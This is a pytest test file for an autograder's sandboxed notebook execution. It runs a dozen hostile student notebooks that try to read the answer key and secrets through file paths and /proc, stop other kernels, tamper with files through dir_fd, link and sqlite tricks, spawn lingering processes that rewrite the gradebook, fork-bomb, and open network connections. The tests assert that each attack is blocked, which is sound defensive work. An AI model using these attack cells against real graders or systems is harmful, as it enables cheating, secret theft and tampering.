"""Hostile notebooks under ``grade --execute``: each attack of issue 10 runs as student01 in a small
batch beside two honest students whose answers need running. Does any attack do harm, and do
the honest students get exactly the results and feedback of a run without the attacker?

Every attack cell ends by putting what it achieved into its own ``p_A`` (a short text the
results show as the given answer): the tests check that it ran to the end and was stopped, and
check the machine itself (the files it aimed at, the outputs, a TCP server it aimed at).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from nbformat import v4

pytestmark = pytest.mark.slow
HONEST = ("student02", "student03")
SECRET = "s3cr3t-do-not-leak-4711"

#: Defined before every attack: turns text that holds a worked solution into answers.
STEAL = r'''
import os, re, json
def steal(texts):
    """Every `id`: ... = number of a worked solution in the texts becomes an answer."""
    n = 0
    for t in texts:
        for m in re.finditer(r"- `(\w+)`: .*= (-?[0-9.]+)\$", t):
            globals()[m.group(1)] = float(m.group(2))
            n += 1
    return n
def readable(paths):
    got = []
    for p in paths:
        try:
            with open(p, errors="replace") as fh:
                got.append(fh.read())
        except OSError:
            pass
    return got
'''

ATTACKS = {
    "key and solutions by absolute path": '''
got = readable([KEY, SOLUTION, SECRET_FILE, OUT + "/results/student02.json", OUT + "/feedback/student02.md",
                HONEST_DIR + "/student02.ipynb"])
p_A = f"LEAK {len(got)} files {steal(got)} answers" if got else "blocked"
''',
    "key and solutions by relative path": '''
names = ["key.json", "secret.txt", "solutions/student01.md", "out/gradebook.csv", "results/student02.json",
         "course/key.json", "course/solutions/student01.md"]
got = readable(["../" * up + name for up in range(12) for name in names])
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev")]
    got += readable([os.path.join(root, f) for f in files if f in ("key.json", "student01.md", "secret.txt",
                                                                    "gradebook.csv")])
p_A = f"LEAK {len(got)} files {steal(got)} answers" if got else "blocked"
''',
    "key folder and secret through /proc": '''
texts = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", str(os.getppid())]:
    for f in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{f}", "rb") as fh:
                texts.append(fh.read().decode("latin-1"))
        except OSError:
            pass
words = {w for t in texts for w in re.split(r"[\\x00\\s=]", t) if w.startswith("/")}
got = readable([w for w in words if w.endswith("key.json")])
for w in words:
    for up in (w, os.path.dirname(w), os.path.dirname(os.path.dirname(w))):
        got += readable([os.path.join(up, "solutions", "student01.md"), os.path.join(up, "key.json")])
hits = [t for t in texts if "key.json" in t or "SECRET" in t or COURSE in t]
p_A = f"LEAK {len(hits)} {len(got)} {steal(got)}" if hits or got else "blocked"
''',
    "another notebook's runner or kernel": '''
import glob, signal, socket, time
def others():
    mine = {os.getpid(), 1}
    found = []
    for p in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{p}/cmdline", "rb") as fh:
                cmd = fh.read()
        except OSError:
            continue
        if int(p) not in mine and b"python" in cmd:
            found.append(int(p))
    return found
seen, conn, ports = set(), [], []
deadline = time.time() + 3
while time.time() < deadline:  # while the honest students run beside this one
    for pid in others():
        seen.add(pid)
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    conn += glob.glob("/tmp/*.json") + glob.glob("/root/.local/share/jupyter/runtime/*") + glob.glob(
        "/run/user/*/jupyter/*")
    time.sleep(0.2)
for root, dirs, files in os.walk("/"):  # a kernel's connection file anywhere
    dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev")]
    conn += [f for f in files if f.startswith("kernel-") and f.endswith(".json")]
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        lines = open(table).read().splitlines()[1:]
    except OSError:
        lines = []
    ports += [int(line.split()[1].split(":")[1], 16) for line in lines if line.split()[3] == "0A"]
for port in ports + list(range(49152, 49252)):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=0.2)
    except OSError:
        continue
    # TCP's simultaneous open: with nothing listening, a connection to an ephemeral port can be
    # given that same port as its source and connect to itself; that reaches no one
    if s.getsockname() != s.getpeername():
        ports.append(-port)
    s.close()
own = os.getpid()
seen.discard(own)
p_A = f"LEAK {len(seen)} {len(conn)} {[p for p in ports if p < 0]}" if seen or conn or any(
    p < 0 for p in ports) else "blocked"
''',
    "dir_fd unlink, open and rename": '''
folder, name = os.path.split(CANARY)
done = []
def attempt(label, fn):
    try:
        fn()
        done.append(label)
    except OSError:
        pass
attempt("unlink", lambda: os.unlink(name, dir_fd=os.open(folder, os.O_RDONLY)))
root = os.open("/", os.O_RDONLY)
rel = CANARY.lstrip("/")
attempt("unlink/", lambda: os.unlink(rel, dir_fd=root))
attempt("open", lambda: os.write(os.open(rel, os.O_WRONLY | os.O_TRUNC, dir_fd=root), b"owned"))
attempt("rename", lambda: os.rename(rel, rel + ".moved", src_dir_fd=root, dst_dir_fd=root))
attempt("rename-in", lambda: os.rename("notebook.ipynb", rel, dst_dir_fd=root))
p_A = f"HARM {done}" if done else "blocked"
''',
    "os.link then write": '''
done = []
for target in (CANARY, KEY, OUT + "/gradebook.csv"):
    try:
        os.link(target, "stolen")
        with open("stolen", "w") as fh:
            fh.write("owned")
        done.append(target)
    except OSError:
        pass
p_A = f"HARM {len(done)}" if done else "blocked"
''',
    "sqlite3 outside the scratch folder": '''
import sqlite3
done = []
for db in (os.path.join(os.path.dirname(CANARY), "evil.db"), OUT + "/gradebook.csv", CANARY):
    try:
        con = sqlite3.connect(db)
        con.execute("create table owned (x)")
        con.commit()
        done.append(db)
    except sqlite3.Error:
        pass
p_A = f"HARM {len(done)}" if done else "blocked"
''',
    "_posixsubprocess.fork_exec into a new session": '''
import _posixsubprocess, sys
script = (f"sleep 3; echo student01,28,28,graded > {OUT}/gradebook.csv; "
          f"echo owned > {OUT}/results/student02.json; echo alive > {MARKER}")
args = [b"/bin/sh", b"-c", script.encode()]
r, w = os.pipe()
common = (args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None,
          None, -1, None)
try:
    pid = _posixsubprocess.fork_exec(*common)
except TypeError:  # Python 3.12 and later: allow_vfork
    pid = _posixsubprocess.fork_exec(*common, False)
p_A = f"spawned {pid > 0}"
''',
    "a process that outlives its notebook and edits the outputs": '''
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(60):
            time.sleep(0.1)
            for path, text in ((OUT + "/gradebook.csv", "student01,28,28,graded\\n"),
                               (OUT + "/results/student02.json", "{}"), (MARKER, "alive")):
                try:
                    with open(path, "w") as fh:
                        fh.write(text)
                except OSError:
                    pass
    os._exit(0)
time.sleep(0.2)
p_A = "spawned True"
''',
    "holding the process limit": '''
import time
held = 0
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    held += 1
p_A = f"held {held}"
''',
    "the secret in the environment": '''
texts = [repr(dict(os.environ))]
for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as fh:
            texts.append(fh.read().decode("latin-1"))
    except OSError:
        pass
hits = [t for t in texts if "SECRET" in t or "s3cr3t" in t]
p_A = f"LEAK {hits[0][:40]}" if hits else "blocked"
''',
    "network": '''
import socket
done = []
for host in HOSTS:
    try:
        socket.create_connection((host, PORT), timeout=2).close()
        done.append(host)
    except OSError:
        pass
p_A = f"LEAK {done}" if done else "blocked"
''',
}

#: What each attack's p_A must say: it ran to the end and was stopped (or did no harm).
EXPECTED = {name: "'blocked'" for name in ATTACKS}
EXPECTED["_posixsubprocess.fork_exec into a new session"] = "'spawned True'"
EXPECTED["a process that outlives its notebook and edits the outputs"] = "'spawned True'"
#: Attacks that start processes meant to act seconds later (the fork_exec one after 3 s).
LINGERING = {"_posixsubprocess.fork_exec into a new session", "holding the process limit",
             "a process that outlives its notebook and edits the outputs"}


def run(args: list[str], env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    full = dict(os.environ, BACKPROP_SECRET=SECRET) if env is None else env
    return subprocess.run([sys.executable, "-m", "grader", *args], capture_output=True, text=True, env=full,
                          timeout=300)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course of three (key, worked solutions, secret), the honest notebooks, and their results
    from a batch without the attacker."""
    from grader.batch.demo_class import _code_version
    from grader.key import load_key

    root = tmp_path_factory.mktemp("attacks")
    course = root / "course"
    done = run(["generate", "2-2-1-threshold", "--count", "3", "--out", str(course), "--format", "ipynb"])
    assert done.returncode == 0, done.stderr
    key = load_key(course / "key.json")
    honest = root / "honest"
    honest.mkdir()
    for s in HONEST:
        entry = key.students[s]
        text = (course / "handouts" / f"{s}.ipynb").read_text()
        (honest / f"{s}.ipynb").write_text(_code_version(text, entry.instance, entry.asked))
    baseline = root / "baseline"
    done = run(["grade", str(course / "key.json"), str(honest), "--out", str(baseline), "--execute",
                "--jobs", "2"])
    assert done.returncode == 0, done.stderr
    for s in HONEST:
        result = json.loads((baseline / "results" / f"{s}.json").read_text())
        assert result["status"] == "graded" and result["score"] == result["max_score"] == 28
    return root, course, honest, baseline


def outputs(out: Path) -> dict[str, str]:
    """The honest students' results, feedback and gradebook rows."""
    rows = {line.split(",")[0]: line for line in (out / "gradebook.csv").read_text().splitlines()}
    found = {f"row {s}": rows.get(s, "") for s in HONEST}
    for s in HONEST:
        found[f"results {s}"] = (out / "results" / f"{s}.json").read_text()
        found[f"feedback {s}"] = (out / "feedback" / f"{s}.md").read_text()
    return found


class Listener:
    """A TCP server on all addresses of this machine that records every connection."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("0.0.0.0", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted: list = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self.sock.accept()
            except OSError:
                continue
            self.accepted.append(peer)
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def host_addresses() -> list[str]:
    addresses = ["127.0.0.1"]
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 9))  # no packet is sent: this only picks the outgoing address
        addresses.append(probe.getsockname()[0])
    except OSError:
        pass
    finally:
        probe.close()
    return addresses


@pytest.mark.parametrize("attack", list(ATTACKS), ids=[a.replace(" ", "-") for a in ATTACKS])
def test_attack_does_no_harm(course, tmp_path, attack):
    root, course_dir, honest, baseline = course
    canary = tmp_path / "canary.txt"
    canary.write_text("intact")
    marker = tmp_path / "marker.txt"
    out = tmp_path / "out"
    listener = Listener()
    constants = {"KEY": str(course_dir / "key.json"),
                 "SOLUTION": str(course_dir / "solutions" / "student01.md"),
                 "SECRET_FILE": str(course_dir / "secret.txt"), "COURSE": str(course_dir), "OUT": str(out),
                 "HONEST_DIR": str(honest), "CANARY": str(canary), "MARKER": str(marker),
                 "PORT": listener.port, "HOSTS": host_addresses()}
    prelude = "\n".join(f"{k} = {v!r}" for k, v in constants.items()) + "\n" + STEAL
    nb = json.loads((course_dir / "handouts" / "student01.ipynb").read_text())
    nb["cells"] += [dict(v4.new_code_cell(prelude)), dict(v4.new_code_cell(ATTACKS[attack]))]
    attacker = tmp_path / "attacker" / "student01.ipynb"
    attacker.parent.mkdir()
    attacker.write_text(json.dumps(nb))
    started = time.monotonic()
    try:
        done = run(["grade", str(course_dir / "key.json"), str(honest), str(attacker), "--out", str(out),
                    "--execute", "--jobs", "2"])
        took = time.monotonic() - started
        assert done.returncode == 0, done.stderr
        graded = outputs(out)
        time.sleep(4 if attack in LINGERING else 1)  # what outlived the batch would act now
        assert outputs(out) == graded
    finally:
        listener.close()
    assert took < 60
    assert graded == outputs(baseline)
    assert canary.read_text() == "intact" and not marker.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["attacker", "canary.txt", "out"]
    assert listener.accepted == []
    mine = json.loads((out / "results" / "student01.json").read_text())
    assert mine["status"] == "graded", mine["message"]
    given = {item["id"]: item["given"] for item in mine["items"]}
    if attack == "holding the process limit":
        assert given["p_A"].startswith("'held ") and 5 < int(given["p_A"].strip("'").split()[1]) < 16
    else:
        assert given["p_A"] == EXPECTED[attack]
    assert mine["score"] == 0
    leaked = "".join((out / part).read_text() for part in ("results/student01.json", "feedback/student01.md"))
    assert SECRET not in leaked and str(course_dir) not in leaked


def test_execute_refuses_without_bwrap_unless_told(course, tmp_path):
    """PATH without bwrap: check and grade --execute refuse in one line (exit 2) and write nothing;
    --sandbox none grades all the same, with a warning."""
    root, course_dir, honest, baseline = course
    env = dict(os.environ, PATH=str(tmp_path / "empty"))
    key = str(course_dir / "key.json")
    for args in (["check", str(honest / "student02.ipynb"), "--execute"],
                 ["grade", key, str(honest), "--out", str(tmp_path / "out"), "--execute"]):
        done = run(args, env)
        assert done.returncode == 2
        assert done.stderr.startswith("Error: --execute runs each notebook in bubblewrap, and bwrap is not "
                                      "installed")
        assert "--sandbox none" in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()
    done = run(["check", str(honest / "student02.ipynb"), "--execute", "--sandbox", "none", "--json"], env)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["score"] == 28
    assert done.stderr.startswith("Warning: --sandbox none:")
    done = run(["grade", key, str(honest), "--out", str(tmp_path / "out"), "--execute", "--sandbox", "none"],
               env)
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path / "out") == outputs(baseline)


def test_execute_refuses_where_bwrap_cannot_make_namespaces(course, tmp_path):
    root, course_dir, honest, _ = course
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because the "
                    "kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n")
    fake.chmod(0o755)
    env = dict(os.environ, PATH=f"{fake.parent}:{os.environ['PATH']}")
    done = run(["check", str(honest / "student02.ipynb"), "--execute"], env)
    assert done.returncode == 2
    assert done.stderr.startswith("Error: --execute runs each notebook in bubblewrap, and bwrap cannot make "
                                  "its sandbox here (bwrap: No permissions to creating new namespace")
    assert shutil.which("bwrap") != str(fake)
